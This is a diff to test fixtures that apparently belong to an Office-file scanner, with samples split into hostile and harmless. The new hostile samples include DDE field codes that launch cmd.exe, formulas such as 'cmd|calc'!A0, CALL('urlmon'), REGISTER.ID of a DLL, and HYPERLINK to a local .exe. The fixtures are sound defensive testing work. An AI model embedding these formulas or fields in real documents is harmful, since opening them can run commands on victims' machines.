@@ -392,6 +392,20 @@ export const HOSTILE: Readonly<Record<string, [name: string, bytes: () => Buffer
       }),
     'documentExternal',
   ],
+  'such a field with a tag in it': [
+    'a.docx',
+    () => word({ content: fieldOf('DDE<ign:x/>AUTO c:\\cmd.exe') }),
+    'documentBroken',
+  ],
+  'such a field between what does not end it': [
+    'a.docx',
+    () =>
+      word({
+        content:
+          '<w:document xmlns:w="w"><w:instrText>DD</w:instrText><ign:fldChar type="end"/><w:instrText>EAUTO c:\\cmd.exe</w:instrText></w:document>',
+      }),
+    'documentExternal',
+  ],
   'a formula that asks a program': ['a.xlsx', () => formula(ASKS), 'documentExternal'],
   'such a formula between sheets whose names look like texts': [
     'a.xlsx',
@@ -415,12 +429,40 @@ export const HOSTILE: Readonly<Record<string, [name: string, bytes: () => Buffer
       sheet("<worksheet><c><f>'cmd|/c'!A0</f></c></worksheet>", '<sheets><sheet name="cmd|/c"/></sheets>'),
     'documentExternal',
   ],
+  ...Object.fromEntries(
+    [
+      '<z:sheet name="cmd|calc"/>',
+      '<sheets><z:sheet name="cmd|calc"/></sheets>',
+      '<sheets><sheet xmlns="x" name="cmd|calc"/></sheets>',
+      '<z:x xmlns="x"><sheets><sheet name="cmd|calc"/></sheets></z:x>',
+    ].map((sheets) => [
+      `such a formula as what is no sheet: ${sheets}`,
+      [
+        'a.xlsx',
+        () => sheet("<worksheet><c><f>'cmd|calc'!A0</f></c></worksheet>", sheets),
+        'documentExternal',
+      ],
+    ]),
+  ),
+  'such a formula as a sheet of another part': [
+    'a.xlsx',
+    () =>
+      sheet('<workbook><sheets><sheet name="cmd|calc"/></sheets><c><f>\'cmd|calc\'!A0</f></c></workbook>'),
+    'documentExternal',
+  ],
   'such a formula behind a name': ['a.xlsx', () => name(ASKS), 'documentExternal'],
   'such a formula in a part whose type is spelled in another way': [
     'a.xlsx',
     () => sheet('<worksheet/>', '', { 'b.xml': ['SpreadsheetML.Worksheet', `<c><f>${ASKS}</f></c>`] }),
     'documentExternal',
   ],
+  'such a formula with a tag in it': ['a.xlsx', () => formula("cmd|<ign:x/>'/c calc'!A0"), 'documentBroken'],
+  'such a formula with another in it': [
+    'a.xlsx',
+    () => formula("cmd|<f>1</f>'/c calc'!A0"),
+    'documentBroken',
+  ],
+  'such a formula behind another in it': ['a.xlsx', () => formula(`<f>1</f>${ASKS}`), 'documentExternal'],
   'such a formula of what may be typed': [
     'a.xlsx',
     () =>
@@ -480,6 +522,15 @@ export const HOSTILE: Readonly<Record<string, [name: string, bytes: () => Buffer
       'RTD("a.b",,"c")',
       'DDE("soffice";"a";"b")',
       '_xlfn.STOCKHISTORY("MSFT",A1)',
+      '_xlfn.MAP(A1,_xleta.WEBSERVICE)',
+      'REGISTER.ID("a.dll","b")',
+      'CALL("urlmon","a","J")',
+      '_xlfn.IMPORTTEXT("https://x")',
+      '_xlfn.IMPORTCSV("https://x")',
+      'HYPERLINK("file:///c:/a.exe","x")',
+      'HYPERLINK( "\\\\x\\a"&amp;A1)',
+      'HYPERLINK("[\\\\x\\a.xlsx]B!A1")',
+      "cmd_x007C_'/c calc'!A0",
       '_xlfn.TRANSLATE(A1)',
     ].flatMap((text) => [
       [`a formula that asks elsewhere: ${text}`, ['a.xlsx', () => formula(text), 'documentExternal']],
@@ -642,6 +693,16 @@ export const HARMLESS: Readonly<
     () => word({ more: documentRelations(['hyperlink', 'docs\\Report%202.docx', true]) }),
     'docx',
   ],
+  'a text document with fields': [
+    'a.docx',
+    () =>
+      word({
+        content: `<w:document xmlns:w="w">${['PAGE', ' HYPERLINK "https://x" ', ' REF a \\h ']
+          .map((field) => fieldOf(field).replace(/<\/?w:document[^>]*>/g, ''))
+          .join('<w:p/>')}</w:document>`,
+      }),
+    'docx',
+  ],
   slides: ['a.pptx', () => office('pptx'), 'pptx'],
   'slides with a table': [
     'a.pptx',
@@ -663,6 +724,8 @@ export const HARMLESS: Readonly<
     () =>
       sheet(
         `<worksheet><c><f>SUM(Prices[[#All],[Yes|No]:['#|'"]])*'It''s "new"'!A1&amp;HYPERLINK("https://x/","RTD(1)")</f></c>
+        <c><f>HYPERLINK("#'2025|2026'!A1","a")&amp;HYPERLINK("[a.xlsx]B!A1:B2")&amp;HYPERLINK("docs\\a.pdf")&amp;HYPERLINK(A1)</f></c>
+        <c><f>CALLS+REGISTER&amp;IMAGES(1)&amp;"_x007C_!"</f></c>
         <c><f>'2025|2026'!A1+SUM('A|B:C|D'!A1)+IMAGE</f></c>
         <dataValidation><formula1>"Yes|No!,No"</formula1></dataValidation>
         <dataValidation><formula1>Lists!$A$1:$A$9</formula1><formula2>TODAY()</formula2></dataValidation>
